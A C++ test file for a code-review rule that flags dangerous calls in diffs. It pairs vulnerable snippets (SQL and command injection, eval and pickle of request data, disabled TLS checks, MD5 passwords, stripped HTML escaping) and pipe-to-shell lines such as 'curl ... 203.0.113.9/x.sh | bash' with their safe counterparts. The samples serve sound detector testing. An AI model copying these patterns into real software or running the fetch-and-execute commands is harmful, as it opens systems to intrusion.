#include <gtest/gtest.h>

#include "base/text.h"
#include "judge/rule_cases.h"

namespace assay::judge {
namespace {

using namespace expectations;

TEST(DangerousCalls, DangerousCall) {
  check_rule(
      "code.dangerous-call",
      {
          {"a query built from settings", "Feature.",
           change("src/a.go", "\n+\tquery := \"SELECT * FROM \" + p.config.Table + \" LIMIT 1\"\n"), should},
          {"a query built from a request", "Feature.",
           change("src/a.go", "\n+\tquery := \"SELECT * FROM t WHERE a = '\" + r.query + \"'\"\n"), must},
          {"eval of a query", "Feature.", change("src/a.js", "\n+  const value = eval(req.query.expr);\n"), must},
          {"shell with arguments of a request", "Feature.",
           change("src/a.py", "\n+    name = request.args['name']\n+    os.system('convert ' + name)\n"), must},
          {"sql f-string", "Feature.",
           change("src/a.py",
                  "\n+    q = request.args.get('q')\n+    db.execute(f\"SELECT * FROM users WHERE name = '{q}'\")\n"),
           must},
          {"sql template", "Feature.",
           change("src/a.ts", "\n+  await db.query(`SELECT * FROM users WHERE id = ${req.params.id}`);\n"), must},
          {"pickle", "Feature.", change("src/a.py", "\n+    data = pickle.loads(request.data)\n"), must},
          {"php", "Feature.", change("src/a.php", "\n+    system($_GET['cmd']);\n"), must},
          {"child process", "Feature.", change("src/a.js", "\n+  exec(`git log ${req.body.ref}`);\n"), must},
          {"unknown origin", "Feature.", change("src/a.py", "\n+    subprocess.run(command, shell=True)\n"), should},
          {"certificates", "Feature.", change("src/a.py", "\n+    r = requests.get(url, verify=False)\n"), should},
          {"node certificates", "Feature.",
           change("src/a.js", "\n+  const agent = new https.Agent({ rejectUnauthorized: false });\n"), should},
          {"yaml", "Feature.", change("src/a.py", "\n+    cfg = yaml.load(text)\n"), should},
          {"password hash", "Feature.",
           change("src/a.py", "\n+    digest = hashlib.md5(password.encode()).hexdigest()\n"), should},
          {"html", "Feature.", change("src/a.js", "\n+  el.innerHTML = comment;\n"), should},
          {"strong password hash made weak", "Slower hashing.",
           change("src/a.py",
                  "\n-    return hashlib.pbkdf2_hmac('sha256', password, salt, 200000)\n+    return "
                  "hashlib.md5(password).digest()\n"),
           must},
          {"strong password hash made weak in php", "Faster.",
           change("src/a.php",
                  "\n-    return password_hash($password, PASSWORD_DEFAULT);\n+    return md5($password);\n"),
           must},
          {"digest protocol", "Feature.",
           change("src/a.py", "\n-    # bcrypt\n+    ha1 = hashlib.md5(user + realm + password).hexdigest()\n"),
           should},
          {"code from a variable address", "Let the container update itself.",
           change("update.sh", "\n+curl -fsSL \"$address\" | sh\n"), must},
          {"code from somewhere in a CI step", "Speed up the build.",
           change(".github/workflows/ci.yml", "\n+      - run: curl -s http://203.0.113.9/x.sh | bash\n"), must},
          {"code from somewhere in an image", "Smaller image.",
           change("Dockerfile", "\n+RUN wget -qO- https://tools.example.net/setup | sh\n"), must},
          {"a known installer", "Use the new toolchain.",
           change(".github/workflows/ci.yml", "\n+      - run: curl -sSf https://sh.rustup.rs | sh -s -- -y\n"),
           should},
          {"escaping removed in php", "Make tag faster.",
           change("src/a.php",
                  "\n-    return \"<b>\" . htmlspecialchars($text) . \"</b>\";\n+    return \"<b>\" . $text . "
                  "\"</b>\";\n"),
           must},
          {"escaping removed in php with flags", "Make tag faster.",
           change("src/a.php", "\n-    echo htmlspecialchars($name, ENT_QUOTES, 'UTF-8');\n+    echo $name;\n"), must},
          {"escaping removed in python", "Simplify.",
           change("src/a.py", "\n-    return '<b>' + html.escape(name) + '</b>'\n+    return '<b>' + name + '</b>'\n"),
           must},
          {"escaping removed in javascript", "Simplify.",
           change("src/a.js", "\n-  out.push(escapeHtml(comment.text));\n+  out.push(comment.text);\n"), must},
          {"escaping removed in go", "Simplify.",
           change("src/a.go", "\n-\tio.WriteString(w, template.HTMLEscapeString(name))\n+\tio.WriteString(w, name)\n"),
           must},
          {"sanitizing removed", "Simplify.",
           change("src/a.ts", "\n-  body.append(DOMPurify.sanitize(comment));\n+  body.append(comment);\n"), must},
          {"escaping removed as asked", "Do not escape titles twice.",
           change("src/a.php", "\n-    return htmlspecialchars($title);\n+    return $title;\n"), should},
          {"another escaper", "Simplify.",
           change("src/a.php", "\n-    return htmlentities($title);\n+    return htmlspecialchars($title);\n"), none},
          {"escaping added", "Fix.",
           change("src/a.php", "\n-    return $title;\n+    return htmlspecialchars($title);\n"), none},
          {"a template that escapes", "Simplify.",
           change("src/a.tsx", "\n-  return <b>{escapeHtml(name)}</b>;\n+  return <b>{name}</b>;\n"), none},
          {"a constant", "Simplify.", change("src/a.py", "\n-    return html.escape('a < b')\n+    return 'a < b'\n"),
           none},
          {"pipe to shell", "Install.", change("install.sh", "\n+curl -fsSL https://example.org/x | sh\n"), should},
          {"open to all", "Install.", change("install.sh", "\n+chmod -R 777 /var/data\n"), should},

          {"regular expression", "Feature.", change("src/a.js", "\n+  const m = /a(b)/.exec(req.url);\n"), none},
          {"constant command", "Feature.", change("src/a.py", "\n+    subprocess.run('ls -l', shell=True)\n"), none},
          {"parameters", "Feature.",
           change("src/a.py", "\n+    db.execute('SELECT * FROM users WHERE id = ?', (request.args['id'],))\n"), none},
          {"safe loader", "Feature.", change("src/a.py", "\n+    cfg = yaml.load(text, Loader=yaml.SafeLoader)\n"),
           none},
          {"evaluation mode", "Feature.", change("src/a.py", "\n+    model.eval()\n"), none},
          {"emptying", "Feature.", change("src/a.js", "\n+  el.innerHTML = '';\n"), none},
          {"in a test", "Test.", change("tests/test_a.py", "\n+    assert eval(expr(request)) == 3\n"), none},
          {"literal_eval", "Feature.", change("src/a.py", "\n+    x = ast.literal_eval(request.args['x'])\n"), none},
          {"checksum", "Feature.", change("src/a.py", "\n+    etag = hashlib.md5(content).hexdigest()\n"), none},
          {"prose with verbs", "Feature.",
           change("src/a.js", "\n+  throw new Error('select a file from the list: ' + name);\n"), none},
      });
}

TEST(DangerousCalls, RequestData) {
  check_rule(
      "code.dangerous-call",
      {
          {"a path", "Serve.",
           change("a.py", "\n+    return send_file(os.path.join(\"files\", request.args[\"name\"]))\n"), must},
          {"a path kept under a name", "Serve.",
           change("a.js", "\n+  const name = req.query.name\n+  fs.readFile('./data/' + name, done)\n"), must},
          {"a redirect", "Redirect.", change("a.js", "\n+  res.redirect(req.query.next)\n"), must},
          {"a template", "Greet.",
           change("a.py", "\n+    return render_template_string(\"<h1>\" + request.args[\"name\"] + \"</h1>\")\n"),
           must},
          {"markup", "Greet.", change("a.js", "\n+  res.send('<h1>Hello ' + req.query.name + '</h1>')\n"), must},
          {"an address", "Preview.", change("a.py", "\n+    return requests.get(request.args[\"url\"]).text\n"), must},
          {"a query of Rails", "Search.", change("a.rb", "\n+    @items = Item.where(\"name = '#{params[:q]}'\")\n"),
           must},
          {"a query of PHP", "Search.",
           change("a.php", "\n+$rows = $db->query(\"SELECT * FROM t WHERE n = '\" . $_GET['q'] . \"'\");\n"), must},
          {"a shell of Ruby", "Ping.", change("a.rb", "\n+  get('/ping') { `ping -c1 #{params[:host]}` }\n"), must},

          {"a name without folders", "Serve.",
           change("a.py",
                  "\n+    return send_file(os.path.join(\"files\", secure_filename(request.args[\"name\"])))\n"),
           none},
          {"a fixed address", "Proxy.",
           change("a.js", "\n+  const r = await fetch(`https://api.acme.io/items/${req.params.id}`)\n"), none},
          {"a page of our own", "Redirect.", change("a.py", "\n+    return redirect(url_for(\"home\"))\n"), none},
          {"a template with a value", "Greet.",
           change("a.py", "\n+    return render_template(\"a.html\", name=request.args[\"name\"])\n"), none},
          {"an answer in JSON", "Greet.", change("a.js", "\n+  res.json({ hello: req.query.name })\n"), none},
          {"a query with parameters", "Search.", change("a.rb", "\n+    @items = Item.where(name: params[:q])\n"),
           none},
      });
}

}  // namespace
}  // namespace assay::judge
